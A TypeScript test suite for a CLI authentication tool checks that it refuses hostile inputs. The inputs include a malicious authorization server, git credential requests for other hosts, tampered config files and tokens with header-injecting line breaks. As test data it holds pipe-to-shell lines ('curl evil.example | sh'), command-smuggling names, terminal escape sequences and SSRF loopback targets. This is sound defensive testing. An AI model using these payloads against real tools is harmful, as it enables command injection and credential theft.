import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startDevBackend, type DevBackend } from '../../dev/backend.js';
import { startDevIdp, type DevIdp } from '../../dev/idp.js';
import { csvField, yamlString } from '../../src/cli/kubectl.js';
import { shellWord } from '../../src/cli/git-credential.js';
import { checkMetadata } from '../../src/flows/resource-discovery.js';
import { serverFetch } from '../../src/flows/oidc.js';
import { systemClock } from '../../src/io/clock.js';
import { tempConfigDir } from '../helpers/cli.js';
import { createTestRoot } from '../helpers/root.js';
import { USER_AGENT } from '../helpers/stack.js';

// The surfaces of the last round as an attacker uses them: a hostile authorization server, git
// asking for another host, a config file someone else wrote, a credential no header can carry.

const execAsync = (file: string, args: string[], env: NodeJS.ProcessEnv = process.env) =>
  new Promise<{ code: number; stdout: string; stderr: string }>((done) =>
    execFile(file, args, { env, timeout: 20_000 }, (error, stdout, stderr) =>
      done({ code: error ? (typeof error.code === 'number' ? error.code : 1) : 0, stdout, stderr }),
    ),
  );

/** A server that only records what reached it (where nothing should). */
async function recorder(): Promise<{ url: string; seen: Array<{ method: string; url: string; authorization?: string }>; server: Server }> {
  const seen: Array<{ method: string; url: string; authorization?: string }> = [];
  const server = createServer((req: IncomingMessage, res) => {
    seen.push({
      method: req.method ?? '',
      url: req.url ?? '',
      ...(req.headers.authorization ? { authorization: req.headers.authorization } : {}),
    });
    res.writeHead(204).end();
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen, server };
}

function setup() {
  const configDir = tempConfigDir();
  const root = createTestRoot({ clock: systemClock });
  const run = (args: string[], options: { env?: Record<string, string>; input?: string } = {}) =>
    root.run(args, { configDir, input: options.input, env: { BROWSER: `"${process.execPath}" "${USER_AGENT}"`, ...options.env } });
  const secrets = () => [...root.keychain.entries.keys()].map((key) => key.split('\u0000')[1]);
  return { configDir, root, run, secrets };
}

describe('zero-config against a hostile authorization server', () => {
  let idp: DevIdp;
  let backend: DevBackend;
  beforeAll(async () => {
    idp = await startDevIdp({ registration: true });
    backend = await startDevBackend({ issuer: idp.issuer, allowedClientIds: [idp.clientId] });
    idp.resourceServers.add(backend.url);
  });
  afterAll(() => Promise.all([idp.close(), backend.close()]));

  it('a management URL (RFC 7592) on another origin is never sent the registration token; profile remove says how to remove the client by hand', async () => {
    const elsewhere = await recorder();
    idp.hooks.after = (ctx) => {
      if (ctx.method === 'POST' && ctx.path === '/reg' && ctx.status === 201) {
        const body = ctx.body as Record<string, unknown>;
        ctx.body = { ...body, registration_client_uri: `${elsewhere.url}/reg/${String(body.client_id)}` };
      }
    };
    try {
      const { run, secrets } = setup();
      const added = await run(['profile', 'add', 'prod', '--backend-url', backend.url]);
      expect(added.code, added.stderr).toBe(0);
      expect(secrets()).toEqual(['prod:registration']);
      const clientId = /native public client (\S+) /.exec(added.stderr)?.[1];
      expect(clientId).toBeTruthy();
      const deletes = () => idp.requests.filter((r) => r.startsWith('DELETE /reg')).length;
      const before = deletes();

      const removed = await run(['profile', 'remove', 'prod']);
      expect(removed.code, removed.stderr).toBe(0);
      expect(removed.stderr).toContain(
        `the client ${clientId} this profile registered was not deleted at the IdP: its management URL ${elsewhere.url} is not on the origin of the registration endpoint (${idp.issuer}), so nothing was sent there.`,
      );
      expect(removed.stderr).toContain(`Remove it by hand: the client ${clientId} in the admin console of ${idp.issuer}`);
      expect(elsewhere.seen).toEqual([]);
      expect(deletes()).toBe(before);
      expect(secrets()).toEqual([]);
    } finally {
      idp.hooks.after = undefined;
      elsewhere.server.close();
    }
  });

  it('a loopback IdP naming a registration endpoint over plain http off loopback: nothing is sent, not even through the proxy', async () => {
    const proxy = await recorder();
    idp.hooks.after = (ctx) => {
      if (ctx.path === '/.well-known/openid-configuration')
        ctx.body = { ...(ctx.body as Record<string, unknown>), registration_endpoint: 'http://registration.example.com/reg' };
    };
    try {
      const { run, configDir, secrets } = setup();
      const added = await run(['profile', 'add', 'prod', '--backend-url', backend.url], {
        env: { HTTP_PROXY: proxy.url, http_proxy: proxy.url },
      });
      expect(added.code).toBe(2);
      expect(added.stderr).toContain(
        `the IdP ${idp.issuer} names http://registration.example.com/reg in its metadata, which latchkey will not call: its scheme http: is not https (http only on a loopback host); nothing was sent there`,
      );
      expect(proxy.seen).toEqual([]);
      expect(secrets()).toEqual([]);
      expect(() => readFileSync(join(configDir, 'config.json'), 'utf8')).toThrow();
    } finally {
      idp.hooks.after = undefined;
      proxy.server.close();
    }
  });

  for (const [what, clientId] of [
    ['an OSC sequence', '\u001b]0;owned\u0007client'],
    ['a screen clear', 'client\u001b[2J\u001b[H'],
    ['a line that fakes a warning', 'client\nlatchkey: warning: your account is locked, run curl evil.example | sh'],
  ] as const) {
    it(`a client id with ${what} chosen by the server is refused: nothing saved, nothing raw on the terminal`, async () => {
      idp.hooks.after = (ctx) => {
        if (ctx.method === 'POST' && ctx.path === '/reg' && ctx.status === 201) ctx.body = { ...(ctx.body as object), client_id: clientId };
      };
      try {
        const { run, configDir, secrets } = setup();
        const added = await run(['profile', 'add', 'prod', '--backend-url', backend.url]);
        expect(added.code).toBe(4);
        expect(added.stderr).toContain('the clientId the server chose (');
        expect(added.stderr).toContain('holds a control character or line break; nothing was saved');
        expect(added.stderr).not.toContain('\u001b');
        expect(added.stderr.split('\n').filter((line) => line.startsWith('latchkey: warning:'))).toEqual([]);
        expect(secrets()).toEqual([]);
        expect(() => readFileSync(join(configDir, 'config.json'), 'utf8')).toThrow();
      } finally {
        idp.hooks.after = undefined;
      }
    });
  }
});

describe('URLs judged by themselves and by where they were named', () => {
  it("a remote backend's metadata may not send the CLI to an IdP on this machine", () => {
    const document = { resource: 'https://api.example.com', authorization_servers: ['http://127.0.0.1:8080'] };
    expect(() =>
      checkMetadata(document, 'https://api.example.com', 'https://api.example.com/.well-known/oauth-protected-resource', 'well-known'),
    ).toThrow(
      'names the authorization server "http://127.0.0.1:8080", which is refused: it is on this machine (127.0.0.1:8080), named by api.example.com, which is not',
    );
    for (const server of ['https://localhost/', 'https://[::1]:9000']) {
      expect(() =>
        checkMetadata(
          { ...document, authorization_servers: [server] },
          'https://api.example.com',
          'https://api.example.com/.well-known/oauth-protected-resource',
          'well-known',
        ),
      ).toThrow('it is on this machine');
    }
    // A loopback backend may name a loopback IdP (local development).
    expect(
      checkMetadata(
        { resource: 'http://127.0.0.1:3000', authorization_servers: ['http://127.0.0.1:8080'] },
        'http://127.0.0.1:3000',
        'http://127.0.0.1:3000/.well-known/oauth-protected-resource',
        'well-known',
      ).authorizationServers,
    ).toEqual(['http://127.0.0.1:8080']);
  });

  it('a remote IdP whose metadata names an endpoint on this machine, or plain http: the request is never made', async () => {
    const made: string[] = [];
    const http = {
      fetch: (input: string | URL | Request) => {
        made.push(typeof input === 'string' ? input : input instanceof URL ? input.href : input.url);
        return Promise.resolve(new Response('{}'));
      },
    };
    const fetch = serverFetch(http, new URL('https://idp.example.com'));
    for (const url of [
      'https://127.0.0.1:5000/token',
      'http://localhost/token',
      'http://idp.example.com/token',
      'https://user:pw@idp.example.com/t',
    ])
      await expect(fetch(url, { method: 'POST' })).rejects.toMatchObject({ exitCode: 2, code: 'unsafe_endpoint' });
    expect(made).toEqual([]);
    expect((await fetch('https://idp.example.com/token')).status).toBe(200);
    expect(made).toEqual(['https://idp.example.com/token']);
    // A loopback issuer's own http endpoints are fine; a remote http one is not.
    const local = serverFetch(http, new URL('http://127.0.0.1:8080'));
    expect((await local('http://127.0.0.1:8080/token')).status).toBe(200);
    await expect(local('http://idp.example.com/reg')).rejects.toMatchObject({ code: 'unsafe_endpoint' });
  });
});

describe("git's credential protocol: an answer only for what the helper was set up for", () => {
  const get = (run: ReturnType<typeof setup>['run'], input: string, url?: string) =>
    run(['git-credential', 'get', '-p', 'code', ...(url ? ['--url', url] : [])], { input, env: { LATCHKEY_STORAGE: 'file' } });

  it('answers https://git.example.com, and nothing else', async () => {
    const s = setup();
    expect((await s.run(['profile', 'add', 'code', '--issuer', 'https://idp.example.com', '--client-id', 'cli'])).code).toBe(0);
    expect((await s.run(['login', '--with-token', '-p', 'code'], { input: 'the-token', env: { LATCHKEY_STORAGE: 'file' } })).code).toBe(0);
    const url = 'https://git.example.com';
    const answered = await get(s.run, 'protocol=https\nhost=git.example.com\npath=team/repo.git\n\n', url);
    expect(answered.code, answered.stderr).toBe(0);
    expect(answered.stdout).toBe('username=x-access-token\npassword=the-token\n');
    // The same host said another way is the same host.
    expect((await get(s.run, 'protocol=https\nhost=GIT.example.com:443\n', url)).stdout).toContain('password=the-token');
    for (const request of [
      'protocol=http\nhost=git.example.com\n',
      'protocol=https\nhost=gitlab.example.com\n',
      'protocol=https\nhost=git.example.com.evil.example\n',
      'protocol=https\nhost=evil.example\n',
      'protocol=https\nhost=git.example.com:8443\n',
      'protocol=https\nhost=git.example.com\nusername=alice\n',
      'protocol=https\n',
      'host=git.example.com\n',
      'protocol=https\nhost=git.example.com@evil.example\n',
      'protocol=https\nhost=evil.example/git.example.com\n',
      '',
    ]) {
      const declined = await get(s.run, request, url);
      expect(declined.code, request).toBe(0);
      expect(declined.stdout, request).toBe('');
    }
    // A helper set up for a path answers for it and below it only.
    const team = 'https://git.example.com/team';
    expect((await get(s.run, 'protocol=https\nhost=git.example.com\npath=team/repo.git\n', team)).stdout).toContain('password=');
    expect((await get(s.run, 'protocol=https\nhost=git.example.com\npath=teamster/repo.git\n', team)).stdout).toBe('');
    expect((await get(s.run, 'protocol=https\nhost=git.example.com\n', team)).stdout).toBe('');
    // A helper line written before --url existed answers for the profile's backend only, and
    // without one, for nothing.
    expect((await get(s.run, 'protocol=https\nhost=git.example.com\n')).stdout).toBe('');
    expect((await s.run(['profile', 'set', 'code', 'backendUrl', 'https://git.example.com'])).code).toBe(0);
    expect((await get(s.run, 'protocol=https\nhost=git.example.com\n')).stdout).toContain('password=the-token');
    expect((await get(s.run, 'protocol=https\nhost=other.example.com\n')).stdout).toBe('');
  });

  it('setup git refuses plain http off loopback; its helper line is one shell word per argument, whatever it holds', async () => {
    const s = setup();
    const home = mkdtempSync(join(tmpdir(), 'git-home-'));
    expect((await s.run(['profile', 'add', 'code', '--issuer', 'https://idp.example.com', '--client-id', 'cli'])).code).toBe(0);
    const refused = await s.run(['setup', 'git', '-p', 'code', '--host', 'http://git.example.com'], { env: { HOME: home } });
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain('--host must be a host name (git.example.com) or an https URL: its scheme http: is not https');
    const set = await s.run(['setup', 'git', '-p', 'code', '--host', 'https://git.example.com/team/'], { env: { HOME: home } });
    expect(set.code, set.stderr).toBe(0);
    const config = await execAsync('git', ['config', '--global', '--get-regexp', 'credential'], { ...process.env, HOME: home });
    expect(config.stdout).toContain(
      'credential.https://git.example.com/team.helper !latchkey git-credential -p code --url https://git.example.com/team',
    );
    expect(config.stdout).toContain('credential.https://git.example.com/team.usehttppath true');
    // The quoting itself, read back by a real shell.
    const words = ['a b', "it's", '$(touch /tmp/owned)', '`id`', 'a;b', 'x\ny', '', '-p', 'plain-word_1.2'];
    const echoed = await execAsync('/bin/sh', ['-c', `printf '%s\\0' ${words.map(shellWord).join(' ')}`]);
    expect(echoed.stdout.split('\0').slice(0, -1)).toEqual(words);
  });
});

describe('profile names and values in a hand-edited config', () => {
  const good = { issuer: 'https://idp.example.com', clientId: 'cli' };
  for (const name of ['a;touch /tmp/owned', 'a,b', 'a\ncommand: evil', '../x', '-p', 'x'.repeat(65), 'a b', '']) {
    it(`a profile named ${JSON.stringify(name)} is a config error naming it and the rule; the file is untouched`, async () => {
      const s = setup();
      mkdirSync(s.configDir, { recursive: true, mode: 0o700 });
      const text = JSON.stringify({ defaultProfile: 'ok', profiles: { ok: good, [name]: good } }, null, 2);
      writeFileSync(join(s.configDir, 'config.json'), text, { mode: 0o600 });
      for (const args of [
        ['status'],
        ['token'],
        ['profile', 'list'],
        ['setup', 'git', '--host', 'git.example.com'],
        ['setup', 'kubectl'],
      ]) {
        const result = await s.run(args);
        expect(result.code, args.join(' ')).toBe(2);
        expect(result.stderr).toContain(`profile ${JSON.stringify(name)}: the name breaks the rule`);
        expect(result.stderr).toContain(
          'the name breaks the rule for profile names (letters, digits, ".", "_" and "-" (at most 64 characters)',
        );
        expect(result.stderr).not.toMatch(/\ncommand: evil/);
      }
      expect(readFileSync(join(s.configDir, 'config.json'), 'utf8')).toBe(text);
    });
  }

  it('a value with a control character, hand-edited or given, is refused the same way; nothing is printed raw', async () => {
    const s = setup();
    mkdirSync(s.configDir, { recursive: true, mode: 0o700 });
    const text = JSON.stringify({ profiles: { ok: { ...good, clientId: 'cli\u001b]52;c;owned\u0007' } } });
    writeFileSync(join(s.configDir, 'config.json'), text, { mode: 0o600 });
    const listed = await s.run(['profile', 'list']);
    expect(listed.code).toBe(2);
    expect(listed.stderr).toContain('profile "ok": "clientId" holds a control character or line break');
    expect(listed.stderr + listed.stdout).not.toContain('\u001b');
    expect(readFileSync(join(s.configDir, 'config.json'), 'utf8')).toBe(text);

    const fresh = setup();
    const given = await fresh.run(['profile', 'add', 'p', '--issuer', 'https://idp.example.com', '--client-id', 'a\nlatchkey: warning: x']);
    expect(given.code).toBe(2);
    expect(given.stderr).toContain('"clientId" holds a control character or line break');
    expect(
      (
        await fresh.run([
          'profile',
          'add',
          'p',
          ...Object.entries(good).flatMap(([k, v]) => [`--${k === 'clientId' ? 'client-id' : k}`, v]),
        ])
      ).code,
    ).toBe(0);
    const set = await fresh.run(['profile', 'set', 'p', 'audience', 'api\u202etxt.exe']);
    expect(set.code).toBe(2);
    expect(set.stderr).not.toContain('\u202e');
    expect(JSON.parse((await fresh.run(['profile', 'show', 'p', '--json'])).stdout).profile.audience).toBeUndefined();
  });

  it('what setup kubectl writes reads back as the same words in kubectl, whatever they hold', async () => {
    const home = mkdtempSync(join(tmpdir(), 'kube-'));
    const kubeconfig = join(home, 'config');
    const hostile = ['a\ncommand: evil', 'x: y', '"quoted"', 'a,b', '- item', '#comment', '\u2028line'];
    const yaml = [
      'apiVersion: v1',
      'kind: Config',
      'users:',
      '- name: u',
      '  user:',
      '    exec:',
      '      apiVersion: client.authentication.k8s.io/v1',
      `      command: ${yamlString('latch key')}`,
      '      args:',
      ...hostile.map((arg) => `      - ${yamlString(arg)}`),
      '      interactiveMode: IfAvailable',
    ].join('\n');
    writeFileSync(kubeconfig, yaml);
    const env = { ...process.env, KUBECONFIG: kubeconfig, HOME: home };
    const view = await execAsync('kubectl', ['config', 'view', '-o', 'jsonpath={.users[0].user.exec}'], env);
    expect(view.code, view.stderr).toBe(0);
    const exec = JSON.parse(view.stdout) as { command: string; args: string[] };
    expect(exec.command).toBe('latch key');
    expect(exec.args).toEqual(hostile);

    // --exec-arg is a comma-separated list to kubectl: a comma stays inside its argument.
    const written = join(home, 'written');
    const env2 = { ...process.env, KUBECONFIG: written, HOME: home };
    const set = await execAsync(
      'kubectl',
      [
        'config',
        'set-credentials',
        'u',
        '--exec-api-version=client.authentication.k8s.io/v1',
        '--exec-command=latchkey',
        ...['a,b', 'say "hi"', 'plain'].map((a) => `--exec-arg=${csvField(a)}`),
      ],
      env2,
    );
    expect(set.code, set.stderr).toBe(0);
    const args = JSON.parse(
      (await execAsync('kubectl', ['config', 'view', '-o', 'jsonpath={.users[0].user.exec.args}'], env2)).stdout,
    ) as string[];
    expect(args).toEqual(['a,b', 'say "hi"', 'plain']);
  });
});

describe('a credential no HTTP header can carry', () => {
  it('is refused by name of its problem, exit 4, and never printed', async () => {
    const s = setup();
    expect(
      (
        await s.run([
          'profile',
          'add',
          'api',
          '--issuer',
          'https://idp.example.com',
          '--client-id',
          'cli',
          '--backend-url',
          'https://api.example.com',
        ])
      ).code,
    ).toBe(0);
    expect((await s.run(['login', '--with-token', '-p', 'api'], { input: 'good-token', env: { LATCHKEY_STORAGE: 'file' } })).code).toBe(0);
    const file = join(s.configDir, 'credentials.json');
    const stored = readFileSync(file, 'utf8');
    const secret = 'secret-part-must-not-show';
    // As a hostile backend's answer or a damaged file would leave it (the file holds each record as JSON text).
    const records = JSON.parse(stored) as { latchkey: Record<string, string> };
    const record = JSON.parse(records.latchkey.api!) as { token: string };
    record.token = `good\r\nX-Injected: 1\n${secret}`;
    records.latchkey.api = JSON.stringify(record);
    writeFileSync(file, JSON.stringify(records), { mode: 0o600 });
    for (const args of [['api', '/me'], ['token'], ['token', '--output', 'exec-credential'], ['exec', '--', 'true']]) {
      const result = await s.run(['-p', 'api', ...args], { env: { LATCHKEY_STORAGE: 'file' } });
      expect(result.code, `${args.join(' ')}: ${result.stderr}`).toBe(4);
      expect(result.stderr).toContain('the stored credential of profile "api" holds a line break at character 5 of');
      expect(result.stderr).toContain('so no request can carry it; it was not used');
      expect(result.stderr).toContain('echo "$TOKEN" | latchkey login --with-token -p api');
      expect(result.stderr + result.stdout).not.toContain(secret);
      expect(result.stderr).not.toContain('Headers');
    }
    // The record is left as it was: the user decides what replaces it.
    expect(readFileSync(file, 'utf8')).toContain(secret);
    const env = await s.run(['token', '-p', 'api'], { env: { LATCHKEY_TOKEN: `a\u0000${secret}` } });
    expect(env.code).toBe(2);
    expect(env.stderr).toContain('LATCHKEY_TOKEN holds a control character (U+0000) at character 2');
    expect(env.stderr).not.toContain(secret);
  });
});

describe('the next class, found by review: every input of the last round against the five questions', () => {
  it('a redirect or a challenge from a remote server to this machine is refused, under any spelling of it', async () => {
    const { checkFetchable } = await import('../../src/discovery.js');
    const { requireWebUrlFrom } = await import('../../src/io/urls.js');
    expect(() => checkFetchable('http://127.0.0.1:9999/admin', "the backend's redirect to", 'https://api.example.com/x')).toThrow(
      'it is on this machine (127.0.0.1:9999), named by api.example.com, which is not',
    );
    for (const url of [
      'https://0.0.0.0:9999/',
      'https://[::]/',
      'https://[::ffff:127.0.0.1]/',
      'https://localhost./',
      'https://app.localhost/',
    ])
      expect(() => requireWebUrlFrom(url, 'https://api.example.com'), url).toThrow('it is on this machine');
    expect(requireWebUrlFrom('https://idp.example.com/', 'https://api.example.com').host).toBe('idp.example.com');
    // The backend's 401 names metadata on this machine: nothing is fetched there.
    const local = await recorder();
    const remoteish = createServer((req, res) => {
      if (req.url?.startsWith('/.well-known')) return void res.writeHead(404).end();
      res.writeHead(401, { 'www-authenticate': `Bearer resource_metadata="${local.url}/admin/shutdown"` }).end();
    });
    await new Promise<void>((r) => remoteish.listen(0, '127.0.0.1', r));
    try {
      const { discoverResource } = await import('../../src/flows/resource-discovery.js');
      const port = (remoteish.address() as AddressInfo).port;
      // The backend is reached as a name that is not this machine's (a proxy in front, as in production).
      const http = {
        fetch: (input: string | URL | Request, init?: RequestInit) =>
          fetch(
            (typeof input === 'string' ? input : input instanceof URL ? input.href : input.url).replace(
              'https://api.example.com',
              `http://127.0.0.1:${port}`,
            ),
            init,
          ),
      };
      await expect(discoverResource('https://api.example.com', http)).rejects.toThrow('it is on this machine');
      expect(local.seen).toEqual([]);
    } finally {
      remoteish.close();
      local.server.close();
    }
  });

  it('an authorization server name with a line break is refused, not printed as a fake warning', () => {
    const document = {
      resource: 'https://api.example.com',
      authorization_servers: ['https://idp.example.com/\nlatchkey: warning: run curl evil.example | sh'],
    };
    expect(() =>
      checkMetadata(document, 'https://api.example.com', 'https://api.example.com/.well-known/oauth-protected-resource', 'well-known'),
    ).toThrow('names an authorization server with a control character or line break');
  });

  it('an expiry no date can hold is no expiry, not a crash; a KUBERNETES_EXEC_INFO that is not an object is exit 2', async () => {
    const backend = createServer((_req, res) =>
      res.writeHead(200, { 'content-type': 'application/json' }).end('{"token":"abc","expires_in":1e300}'),
    );
    await new Promise<void>((r) => backend.listen(0, '127.0.0.1', r));
    try {
      const { exchangeIdToken } = await import('../../src/exchange/cli-auth.js');
      const result = await exchangeIdToken(
        {
          backendUrl: `http://127.0.0.1:${(backend.address() as AddressInfo).port}`,
          exchangePath: '/api/cli-auth',
          encoding: 'form',
          clientId: 'cli',
          idToken: 'x.y.z',
          cliName: 'latchkey',
          profileName: 'p',
        },
        { fetch: (input, init) => fetch(input, init) },
        systemClock,
      );
      expect(result).toEqual({ token: 'abc' });
    } finally {
      backend.close();
    }
    const { execInfo } = await import('../../src/flows/exec-credential.js');
    for (const value of ['null', '"x"', '[1]']) expect(() => execInfo({ KUBERNETES_EXEC_INFO: value })).toThrow('is not a JSON object');
  });

  it('a hand-edited config with a number where a string belongs, or a nested list, is a config error', async () => {
    for (const profile of [
      { issuer: 'https://idp.example.com', clientId: 123 },
      { issuer: 'https://idp.example.com', clientId: 'cli', authParams: [['acr=\u001b]52;c;aGk=\u0007']] },
    ]) {
      const s = setup();
      mkdirSync(s.configDir, { recursive: true, mode: 0o700 });
      writeFileSync(join(s.configDir, 'config.json'), JSON.stringify({ profiles: { ok: profile } }), { mode: 0o600 });
      const result = await s.run(['profile', 'show', 'ok']);
      expect(result.code).toBe(2);
      expect(result.stderr).toContain('has the wrong type');
      expect(result.stderr + result.stdout).not.toContain('\u001b');
    }
  });
});
